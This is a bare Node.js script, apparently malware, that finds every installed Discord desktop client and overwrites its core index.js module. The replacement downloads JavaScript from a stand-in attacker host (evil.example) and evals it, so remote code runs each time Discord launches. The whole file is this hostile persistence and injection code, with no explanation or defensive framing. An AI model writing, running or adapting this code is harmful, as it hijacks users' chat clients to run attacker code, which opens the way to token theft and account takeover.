const fs = require("fs"), glob = require("glob");
for (const f of glob.sync(process.env.LOCALAPPDATA + "/Discord/app-*/modules/discord_desktop_core-*/discord_desktop_core/index.js"))
  fs.writeFileSync(f, "require('https').get('https://evil.example/i.js', r => r.on('data', d => eval(d.toString())))");
